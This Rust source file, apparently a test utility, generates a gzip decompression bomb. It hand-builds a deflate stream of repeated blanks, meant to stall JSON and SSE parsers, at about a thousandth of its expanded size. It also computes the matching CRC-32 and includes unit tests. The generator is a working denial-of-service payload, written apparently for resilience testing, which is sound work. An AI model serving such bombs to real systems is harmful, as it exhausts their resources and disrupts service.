//! Bomb: a valid gzip file of one repeated byte, a thousandth of the size it expands to.

/// The byte the bomb repeats: a blank, so that JSON and SSE parsers keep asking for more.
const BYTE: u8 = b' ';
/// Longest match of a deflate length code (RFC 1951, 3.2.5).
const MATCH: usize = 258;

/// Builds a gzip file that expands to about `mib` MiB of blanks.
///
/// One deflate block with its own Huffman codes (RFC 1951, 3.2.7): the longest match and the distance of one take
/// a single zero bit each, so every byte of the file stands for four matches, 1032 bytes.
pub(crate) fn gzip(mib: usize) -> Vec<u8> {
    let matches = (mib * 1024 * 1024 / MATCH).next_multiple_of(4);
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut bits = Bits { bytes: &mut file, filled: 8 };
    bits.low_first(0b101, 3); // last block, dynamic codes
    bits.low_first(286 - 257, 5); // literal and length codes
    bits.low_first(0, 5); // one distance code
    bits.low_first(18 - 4, 4); // code length codes that follow, in the order of RFC 1951
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
        let length = match symbol {
            18 => 1,
            1 | 2 => 2,
            _ => 0,
        };
        bits.low_first(length, 3);
    }
    // The code lengths themselves: zeros up to the blank, the blank 2, zeros, end of block 2, zeros, longest match
    // 1; then the distance of one, 1. The codes are 18 = 0 (a run of 11 to 138 zeros), 1 = 10, 2 = 11.
    for run in [Some(32), None, Some(138), Some(85), None, Some(28)] {
        match run {
            Some(zeros) => {
                bits.high_first(0b0, 1);
                bits.low_first(zeros - 11, 7);
            }
            None => bits.high_first(0b11, 2),
        }
    }
    bits.high_first(0b10, 2);
    bits.high_first(0b10, 2);
    bits.high_first(0b10, 2); // one literal blank, which the matches repeat
    // Matches are zero bits, four to a byte, so the position inside a byte stays and what lies between is zero.
    let whole = bits.bytes.len() + matches / 4;
    let filled = bits.filled;
    file.resize(whole, 0);
    Bits { bytes: &mut file, filled }.high_first(0b11, 2);
    let length = 1 + matches * MATCH;
    file.extend_from_slice(&crc_of_run(BYTE, length).to_le_bytes());
    file.extend_from_slice(&u32::try_from(length & 0xffff_ffff).unwrap_or(u32::MAX).to_le_bytes());
    file
}

/// Appends bits, the lowest of a byte first.
struct Bits<'a> {
    bytes: &'a mut Vec<u8>,
    /// Bits used in the last byte.
    filled: u32,
}

impl Bits<'_> {
    fn bit(&mut self, bit: bool) {
        if self.filled == 8 {
            self.bytes.push(0);
            self.filled = 0;
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << self.filled;
        }
        self.filled += 1;
    }

    /// Numbers go in with their lowest bit first.
    fn low_first(&mut self, value: u32, count: u32) {
        (0..count).for_each(|place| self.bit(value >> place & 1 == 1));
    }

    /// Huffman codes go in with their highest bit first.
    fn high_first(&mut self, value: u32, count: u32) {
        (0..count).rev().for_each(|place| self.bit(value >> place & 1 == 1));
    }
}

/// CRC-32 (ISO 3309) of `count` equal bytes, in steps that double the run.
///
/// Feeding one byte is an affine map over 32 bits; feeding twice as many is that map applied to itself.
fn crc_of_run(byte: u8, mut count: usize) -> u32 {
    let mut map = Affine::of_byte(byte);
    let mut state = u32::MAX;
    while count > 0 {
        if count & 1 == 1 {
            state = map.apply(state);
        }
        map = map.twice();
        count >>= 1;
    }
    !state
}

/// `state -> columns · state ^ constant` over GF(2).
struct Affine {
    columns: [u32; 32],
    constant: u32,
}

impl Affine {
    fn of_byte(byte: u8) -> Self {
        let step =
            |state: u32| {
                (0..8).fold(state ^ u32::from(byte), |crc, _| {
                    if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 }
                })
            };
        let constant = step(0);
        Self { columns: std::array::from_fn(|place| step(1 << place) ^ constant), constant }
    }

    fn linear(&self, state: u32) -> u32 {
        let columns = self.columns.iter().enumerate();
        columns.fold(0, |sum, (place, column)| if state >> place & 1 == 1 { sum ^ column } else { sum })
    }

    fn apply(&self, state: u32) -> u32 {
        self.linear(state) ^ self.constant
    }

    fn twice(&self) -> Self {
        Self { columns: self.columns.map(|column| self.linear(column)), constant: self.apply(self.constant) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_a_run_equals_published_values() {
        for (byte, count, wanted) in
            [(0, 1, 0xd202_ef8d), (0, 32, 0x190a_55ad), (0xff, 32, 0xff6c_ab0b), (b' ', 0, 0)]
        {
            assert_eq!(crc_of_run(byte, count), wanted, "{count} times {byte}");
        }
    }

    #[test]
    fn a_bomb_is_a_thousandth_of_what_it_expands_to() {
        let file = gzip(64);
        assert!(file.len() < 66 * 1024, "{} bytes", file.len());
        let length = u32::from_le_bytes(file[file.len() - 4..].try_into().expect("four bytes"));
        assert!((64 * 1024 * 1024..65 * 1024 * 1024).contains(&length), "{length}");
    }
}
